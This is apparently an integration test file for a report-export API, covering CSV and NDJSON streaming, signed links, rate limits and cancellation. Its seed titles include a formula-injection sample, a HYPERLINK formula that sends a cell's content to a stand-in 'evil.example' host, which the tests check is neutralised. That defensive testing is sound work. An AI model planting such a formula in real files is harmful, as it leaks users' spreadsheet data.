import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer, get, type IncomingMessage, type Server } from 'node:http';
import { text as textOf } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import express from 'express';
import pg from 'pg';
import { pino } from 'pino';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createErrorFormatter } from '../../src/api/errors.ts';
import { ExportLinks, type ExportRequest } from '../../src/api/export/export-link.ts';
import { createExportRoute } from '../../src/api/export/export-route.ts';
import { closeServer, listen } from '../../src/platform/listen.ts';
import { Storage } from '../../src/storage/storage.ts';
import { isDatabaseUnavailable } from '../../src/storage/unavailable.ts';
import {
  ExportUrlDocument,
  ExportUrlOfBrandDocument,
  ExportUrlOfFeedDocument,
  type ExportUrlQueryVariables,
  type ReportFilter,
} from '../operations/generated/graphql.ts';
import { dataOf, startApi, type TestApi, type TestTenant } from '../support/api.ts';
import { readCsv } from '../support/csv.ts';
import { freePort, killPrograms, startCommand, until } from '../support/programs.ts';
import { parseMetrics, sampleValue } from '../support/prometheus.ts';
import { recountReports } from '../support/rollups.ts';
import { addFeeds, brandsOfCatalogue, makeReports, seededBrands, storeReports } from '../support/seed.ts';
import { npmStartArguments } from '../support/start-commands.ts';

const count = 30_000;
const pageRows = 1_000;

let api: TestApi;
let big: TestTenant;
let connection: pg.Client;

beforeAll(async () => {
  api = await startApi();
  connection = new pg.Client({ connectionString: api.database.url });
  await connection.connect();
  await api.storage.writeCatalogue(brandsOfCatalogue(seededBrands));
  big = await api.addTenant('big');
  await fillWithOddReports(big.tenantId);
}, 120_000);

afterAll(async () => {
  await connection.end();
  await api.close();
});

/** Reports of a kilobyte each, seven of which share a moment; titles are all that a file may stumble over. */
async function fillWithOddReports(tenantId: string): Promise<void> {
  const titles = [
    'silk',
    '=HYPERLINK("https://evil.example?x="&A1)',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\tsilk',
    '\rsilk',
    '\n=1',
    '＝1',
    'a "quoted" word, and a comma',
    'two\r\nlines\nor three',
    'Élan — ファッション 👠 e\u0301',
    `'quoted'; and so on`,
    ' silk ',
  ];
  await connection.query(
    `INSERT INTO reports (tenant_id, title, url, source, provider, author, language, published_at, published_at_source,
       ingested_at, summary, brands, topic, sentiment, sentiment_score, status)
     SELECT $1, ($3::text[])[n % $4 + 1], 'https://press.example/' || n, 'Outlet ' || n % 50, 'RSS',
       CASE WHEN n % 3 = 0 THEN 'Ada, Vane' END, CASE WHEN n % 2 = 0 THEN 'en' END,
       '2026-01-01'::timestamptz + (n / 7) * interval '1 minute' + (n % 2) * interval '1 ms', 'ENTRY',
       '2026-06-01'::timestamptz - (n / 3) * interval '1 minute', repeat('silk ' || n || ' ', 100),
       CASE WHEN n % 5 = 0 THEN ARRAY['Gucci', 'Hermès'] WHEN n % 3 = 0 THEN ARRAY['Dior'] ELSE '{}' END,
       'OTHER', 'NEUTRAL', (n % 3 - 1) * 0.3, 'NEW'
     FROM generate_series(0, $2 - 1) AS n`,
    [tenantId, count, titles, titles.length],
  );
  await connection.query(
    `INSERT INTO report_brands (tenant_id, brand, published_at, report_id, position, count, tone, score, confidence, quote)
     SELECT tenant_id, brand, published_at, id, 'BODY', 1, 'NEUTRAL', 0, 1, '' FROM reports CROSS JOIN unnest(brands) AS brand
     WHERE tenant_id = $1`,
    [tenantId],
  );
  await recountReports(api.database.url);
  await connection.query('ANALYZE reports');
}

interface Row {
  id: string;
  publishedAt: Date;
  title: string;
  url: string | null;
  source: string;
  provider: string;
  author: string | null;
  language: string | null;
  topic: string;
  sentiment: string;
  sentimentScore: number;
  status: string;
  brands: string[];
  summary: string | null;
  ingestedAt: Date;
}

/** The reports of a tenant as SQL gives them, by name of their columns. */
async function rowsInTruth(tenantId: string, where = 'true', order = 'published_at DESC, id DESC') {
  const { rows } = await connection.query<Row>(
    `SELECT id, published_at AS "publishedAt", title, url, source, provider, author, language, topic, sentiment,
       sentiment_score AS "sentimentScore", status, brands, summary, ingested_at AS "ingestedAt"
     FROM reports WHERE tenant_id = $1 AND ${where} ORDER BY ${order}`,
    [tenantId],
  );
  return rows;
}

/** A row as NDJSON has it. */
function asJson(row: Row) {
  return { ...row, publishedAt: row.publishedAt.toISOString(), ingestedAt: row.ingestedAt.toISOString() };
}

/** A row as CSV has it: without nulls, and with nothing that a spreadsheet takes for a formula. */
function asCsv(row: Row): Record<string, string> {
  const harmless = (value: string) => (/^[=+\-@\t\r\n＝＋－＠]/.test(value) ? `'${value}` : value);
  return Object.fromEntries(
    Object.entries({ ...asJson(row), brands: row.brands.join('; ') }).map(([name, value]) => [
      name,
      typeof value === 'string' ? harmless(value) : value === null ? '' : String(value),
    ]),
  );
}

const linesOf = (file: string): unknown[] =>
  file
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

/** A link of the API's, led to where it listens. */
function reachable(url: string): URL {
  const { origin, pathname } = new URL(url);
  expect(origin).toBe('http://api.example');
  return new URL(pathname, api.url);
}

async function linkOf(variables: ExportUrlQueryVariables, key = big.key): Promise<URL> {
  return reachable(dataOf(await api.query(ExportUrlDocument, variables, key)).reports.exportUrl);
}

async function refusalOf(url: URL) {
  const response = await fetch(url);
  const { errors } = (await response.json()) as {
    errors: { message: string; extensions: { code: string } }[];
  };
  return { status: response.status, code: errors[0]?.extensions.code, message: errors[0]?.message };
}

describe('an export of 30,000 reports', () => {
  it('is every row, as CSV', async () => {
    const response = await fetch(await linkOf({ format: 'CSV' }));
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': expect.stringMatching(/^attachment; filename="reports-\d{4}-\d\d-\d\d\.csv"$/),
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
    });
    const rows = readCsv(await response.text());
    expect(rows).toHaveLength(count);
    expect(rows).toEqual((await rowsInTruth(big.tenantId)).map(asCsv));
  });

  it('is every row, as NDJSON, in the order that was asked for', async () => {
    const orderBy = { field: 'INGESTED_AT', direction: 'ASC' } as const;
    const response = await fetch(await linkOf({ format: 'NDJSON', orderBy }));
    expect(response.headers.get('content-type')).toBe('application/x-ndjson');
    expect(response.headers.get('content-disposition')).toMatch(/\.ndjson"$/);
    const rows = linesOf(await response.text());
    expect(rows).toHaveLength(count);
    const expected = await rowsInTruth(big.tenantId, 'true', 'ingested_at, id');
    expect(rows).toEqual(expected.map(asJson));
  });

  it.each<[string, ReportFilter, string]>([
    ['a brand by its alias', { brands: { all: ['hermes'] } }, `'Hermès' = ANY(brands)`],
    [
      'a brand in a few',
      { brands: { any: ['dior'] }, sources: ['outlet 9'] },
      `'Dior' = ANY(brands) AND source = 'Outlet 9'`,
    ],
    ['words in all of them', { search: 'silk' }, 'true'],
    [
      'a time',
      { publishedAfter: '2026-01-01T10:00:00.001Z', publishedBefore: '2026-01-01T12:00:00Z' },
      `published_at >= '2026-01-01T10:00:00.001Z' AND published_at < '2026-01-01T12:00:00Z'`,
    ],
    ['nothing', { search: 'nowhere' }, 'false'],
  ])('is only what its filter lets through: %s', async (_, filter, where) => {
    const file = await (await fetch(await linkOf({ filter, format: 'NDJSON' }))).text();
    expect(linesOf(file)).toEqual((await rowsInTruth(big.tenantId, where)).map(asJson));
  });
});

describe('the process that sends exports', { timeout: 120_000 }, () => {
  afterAll(killPrograms);

  /** Starts the API as `npm start` does; gives its address and a look at the old part of its heap, in megabytes. */
  async function startAsNpmDoes() {
    const [port, operationsPort] = await Promise.all([freePort(), freePort()]);
    const program = startCommand(process.execPath, [...(await npmStartArguments()), '--no-demo'], {
      env: {
        DATABASE_URL: api.database.url,
        PORT: String(port),
        OPERATIONS_PORT: String(operationsPort),
        LOG_LEVEL: 'warn',
      },
    });
    await until('the API listens', () => program.stdout().includes('answers GraphQL at'), 60_000);
    const oldMegabytes = async () => {
      const text = await (await fetch(`http://127.0.0.1:${operationsPort}/metrics`)).text();
      const name = 'fashion_hunting_nodejs_heap_space_size_used_bytes';
      const bytes = sampleValue(parseMetrics(text), name, { space: 'old' });
      if (bytes === undefined) throw new Error(`no series of ${name} tells of the old space`);
      return bytes / 1024 ** 2;
    };
    return { url: `http://127.0.0.1:${port}`, oldMegabytes };
  }

  it('keeps nothing of what it has sent', async () => {
    const { url, oldMegabytes } = await startAsNpmDoes();
    const read = async (times: number) => {
      for (let time = 0; time < times; time += 1) {
        const { pathname } = await linkOf({ format: 'NDJSON' });
        const lines = (await (await fetch(new URL(pathname, url))).text()).split('\n');
        expect(lines).toHaveLength(count + 1);
      }
    };
    // Compiled code and the like come with the first ones.
    await read(2);
    const before = await oldMegabytes();
    await read(6);
    // 180,000 rows later. One page kept at each collection of the young heap made it 38 MB.
    expect((await oldMegabytes()) - before).toBeLessThan(15);
  });
});

describe('a link to an export', () => {
  let mine: TestTenant;
  let feedId: string;

  beforeAll(async () => {
    mine = await api.addTenant('mine');
    [feedId = ''] = await addFeeds(mine, 1);
    await storeReports(mine, feedId, makeReports(6, 25));
    const [otherFeed = ''] = await addFeeds(mine, 1, 2);
    await storeReports(mine, otherFeed, makeReports(7, 25));
  });

  const idsOf = async (url: URL) =>
    linesOf(await (await fetch(url)).text()).map((line) => (line as { id: string }).id);
  const idsInTruth = async (where: string) => (await rowsInTruth(mine.tenantId, where)).map(({ id }) => id);

  it('holds what the list hangs on: a brand, a feed', async () => {
    const filter: ReportFilter = { search: 'silk' };
    const words = `title || ' ' || coalesce(summary, '') || ' ' || coalesce(full_text, '') ~ 'silk'`;
    const ofBrand = await api.query(
      ExportUrlOfBrandDocument,
      { name: 'gucci', filter, format: 'NDJSON' },
      mine.key,
    );
    const brandIds = await idsInTruth(`'Gucci' = ANY(brands) AND ${words}`);
    expect(brandIds.length).toBeGreaterThan(3);
    expect(await idsOf(reachable(dataOf(ofBrand).brand.reports.exportUrl))).toEqual(brandIds);
    const ofFeed = await api.query(ExportUrlOfFeedDocument, { id: feedId, format: 'NDJSON' }, mine.key);
    const feedIds = await idsInTruth(`feed_id = '${feedId}'`);
    expect(feedIds).toHaveLength(25);
    expect(await idsOf(reachable(dataOf(ofFeed).feed.reports.exportUrl))).toEqual(feedIds);
  });

  it('follows a saved search, and is not made for a filter that is too long', async () => {
    const sources = Array.from({ length: 99 }, () => `${randomUUID()}${randomUUID()}`);
    const direct = { filter: { sources }, format: 'CSV' } as const;
    const { errors } = await api.query(ExportUrlDocument, direct, mine.key);
    expect(errors[0]?.extensions.code).toBe('BAD_USER_INPUT');
    expect(errors[0]?.message).toContain('filter by savedSearchId');
    const saved = await api.ask(
      'mutation ($input: SaveSearchInput!) { saveSearch(input: $input) { savedSearch { id } } }',
      { input: { name: 'outlets', filter: { sources: [...sources, 'élan'] } } },
      mine.key,
    );
    const { savedSearch } = dataOf(saved).saveSearch as { savedSearch: { id: string } };
    const filter = { savedSearchId: savedSearch.id };
    const url = await linkOf({ filter, format: 'NDJSON' }, mine.key);
    expect(await idsOf(url)).toEqual(await idsInTruth(`source = 'Élan'`));
    await mine.searches.delete(savedSearch.id);
    // As any filter that names it.
    expect(await refusalOf(url)).toMatchObject({ status: 400, code: 'BAD_USER_INPUT' });
  });

  it('needs no key beside it, and is good for readers', async () => {
    const viewer = await api.addKey(mine, 'VIEWER');
    expect(await idsOf(await linkOf({ format: 'NDJSON' }, viewer))).toEqual(await idsInTruth('true'));
  });

  it('ends with the key that asked for it', async () => {
    const { key, apiKey } = await mine.keys.create({ role: 'VIEWER' });
    const url = await linkOf({ format: 'CSV' }, key);
    expect((await fetch(url)).status).toBe(200);
    await mine.keys.revoke(apiKey.id, new Date());
    expect(await refusalOf(url)).toMatchObject({ status: 403, code: 'FORBIDDEN' });
  });

  it('is refused when it was altered, cut or made up', async () => {
    const { pathname } = await linkOf({ format: 'CSV' }, mine.key);
    const last = pathname.at(-1) === 'A' ? 'B' : 'A';
    for (const path of [
      `${pathname.slice(0, -1)}${last}`,
      pathname.slice(0, -3),
      '/exports/x',
      '/exports/%00',
    ]) {
      expect(await refusalOf(new URL(path, api.url))).toMatchObject({ status: 404, code: 'NOT_FOUND' });
    }
  });

  it('tells HEAD what it would give, without reading it', async () => {
    const response = await fetch(await linkOf({ format: 'CSV' }), { method: 'HEAD' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    expect(await response.text()).toBe('');
  });
});

describe('an export under way', () => {
  const now = new Date('2026-11-25T08:00:00.000Z');
  const links = new ExportLinks({
    secret: new Uint8Array(32),
    publicUrl: 'http://api.example',
    validForMs: 60_000,
  });
  let time = now;
  let statements: string[] = [];
  let logged: Record<string, unknown>[] = [];
  let storage: Storage;
  let server: Server;
  let serverUrl: string;
  let open: IncomingMessage[] = [];

  beforeEach(async () => {
    time = now;
    statements = [];
    logged = [];
    const log = pino({ level: 'info' }, { write: (line: string) => void logged.push(JSON.parse(line)) });
    storage = new Storage({
      url: api.database.url,
      replicaUrl: null,
      log,
      onStatement: (statement) => void statements.push(statement),
    });
    const formatError = createErrorFormatter(log, isDatabaseUnavailable);
    const route = createExportRoute(
      { links, storage, formatError, log, now: () => time },
      { pageRows, atOnce: 2, exportMs: 600_000 },
    );
    server = createServer(express().use('/exports', route));
    serverUrl = await listen(server, { host: '127.0.0.1', port: 0 });
  });

  afterEach(async () => {
    for (const response of open) response.destroy();
    open = [];
    server.closeAllConnections();
    await closeServer(server);
    await storage.close();
  });

  const everything: ExportRequest = {
    tenantId: '',
    keyId: null,
    filters: [],
    order: { field: 'PUBLISHED_AT', direction: 'DESC' },
    format: 'NDJSON',
  };

  function urlOf(request: Partial<ExportRequest> = {}): URL {
    const { pathname } = new URL(links.urlOf({ ...everything, tenantId: big.tenantId, ...request }, now));
    return new URL(pathname, serverUrl);
  }

  /** Begins to read a file, takes its first bytes, and no more. */
  async function begin(): Promise<IncomingMessage> {
    const request = get(urlOf());
    const [response] = (await once(request, 'response')) as [IncomingMessage];
    open.push(response);
    response.on('error', () => {});
    await once(response, 'readable');
    return response;
  }

  const pagesRead = () => statements.filter((statement) => statement.includes('reports.pages')).length;

  /** Waits until no further page was read for a while. */
  async function stalled(): Promise<number> {
    for (let pages = -1; ; ) {
      if (pages === pagesRead()) return pages;
      pages = pagesRead();
      await sleep(500);
    }
  }

  const activeStatements = async () => {
    const { rows } = await connection.query<{ query: string }>(
      `SELECT query FROM pg_stat_activity WHERE datname = current_database() AND state = 'active' AND query LIKE '%reports.pages%'
         AND pid <> pg_backend_pid()`,
    );
    return rows.length;
  };

  it('reads no faster than its client, one statement a page', async () => {
    const response = await begin();
    const pages = await stalled();
    expect(pages).toBeLessThan((count / pageRows) * 0.75);
    const lines = linesOf(await textOf(response)) as { id: string }[];
    expect(lines).toHaveLength(count);
    expect(new Set(lines.map(({ id }) => id)).size).toBe(count);
    expect(pagesRead()).toBe(count / pageRows);
  });

  it('ends when its client hangs up: nothing is read any more', async () => {
    const response = await begin();
    const pages = await stalled();
    response.destroy();
    await sleep(300);
    expect(pagesRead()).toBe(pages);
    expect(await activeStatements()).toBe(0);
    expect(logged).toEqual([]);
  });

  it('ends the statement that is under way when its client hangs up', async () => {
    const response = await begin();
    await stalled();
    const locker = new pg.Client({ connectionString: api.database.url });
    await locker.connect();
    await locker.query('BEGIN; LOCK TABLE reports IN ACCESS EXCLUSIVE MODE');
    response.resume();
    await until('a page waits for the lock', async () => (await activeStatements()) > 0);
    response.destroy();
    await until('the server has given it up', async () => (await activeStatements()) === 0);
    await locker.end();
    expect(logged).toEqual([]);
  });

  it('breaks its connection when it fails, so that the file is not taken for a whole one', async () => {
    const response = await begin();
    await stalled();
    await connection.query('ALTER TABLE reports RENAME COLUMN author TO byline');
    try {
      await expect(textOf(response)).rejects.toThrow('aborted');
      await until('it is in the log', () => logged.length === 2);
      expect(logged.map(({ msg }) => msg)).toEqual(['unexpected failure', 'an export was broken off']);
    } finally {
      await connection.query('ALTER TABLE reports RENAME COLUMN byline TO author');
    }
  });

  it('says so in words when it fails before its first page', async () => {
    await connection.query('ALTER TABLE reports RENAME COLUMN author TO byline');
    try {
      const { status, code, message } = await refusalOf(urlOf());
      expect([status, code]).toEqual([500, 'INTERNAL']);
      expect(message).toContain(String(logged[0]?.errorId));
    } finally {
      await connection.query('ALTER TABLE reports RENAME COLUMN byline TO author');
    }
  });

  it('is one of two for its tenant at a time', async () => {
    const [first] = [await begin(), await begin()];
    expect(await refusalOf(urlOf())).toMatchObject({ status: 429, code: 'RATE_LIMITED' });
    expect((await fetch(urlOf({ tenantId: api.tenant.tenantId }))).status).toBe(200);
    first.destroy();
    await until('there is room again', async () => {
      const response = await fetch(urlOf(), { method: 'HEAD' });
      return response.status === 200;
    });
  });

  it('cannot be begun when its time is over', async () => {
    time = new Date(now.getTime() + 60_000);
    expect(await refusalOf(urlOf())).toMatchObject({ status: 403, code: 'FORBIDDEN' });
  });

  it('collects a filter by brands for each page only while few reports fit', async () => {
    const read = async (filters: ExportRequest['filters']) => {
      statements = [];
      await (await fetch(urlOf({ filters }))).text();
      const pages = statements.filter((statement) => statement.includes('reports.pages'));
      return { pages: pages.length, collected: pages.filter((page) => page.includes('MATERIALIZED')).length };
    };
    // 6,000 reports mention both, in no order but that of one of them; all 30,000 have the word.
    expect(await read([{ brands: { all: ['Gucci', 'Hermès'] } }])).toEqual({ pages: 6, collected: 6 });
    expect(await read([{ brands: { all: ['Gucci'] } }])).toEqual({ pages: 6, collected: 0 });
    expect(await read([{ search: 'silk' }])).toEqual({ pages: 30, collected: 0 });
  });
});
